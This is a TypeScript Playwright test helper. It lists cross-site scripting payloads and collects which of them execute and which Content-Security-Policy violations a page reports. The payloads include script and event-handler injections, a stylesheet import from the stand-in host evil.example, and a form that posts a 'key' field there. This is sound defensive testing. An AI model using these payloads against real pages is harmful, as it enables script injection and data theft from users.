import type { Page } from 'playwright-core';

/** Texts that would run, were they ever taken for markup, an address, a style or code. */
export const HOSTILE = [
  '<script>ran("script")</script>',
  '<img src=x onerror=ran("img")>',
  '<svg onload=ran("svg")>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '"><body onload=ran("body")>',
  "'-ran('quote')-'",
  '<a href="javascript:ran(1)">press</a>',
  '<math><mi xlink:href="data:x,<script>ran(1)</script>">',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action=//evil.example><input name=key></form>',
  '{{ran("template")}} [[ran("template")]]',
  '&lt;script&gt;ran("entity")&lt;/script&gt;',
] as const;

/** Collects in the page's `seen` what of them ran, and what the page's policy had to stop. */
export async function watchPolicy(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen, ran: (what: string) => seen.push(`ran ${what}`) });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      seen.push(`${violatedDirective} ${blockedURI}`),
    );
  });
}

export function seenByPolicy(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { seen: string[] }).seen);
}
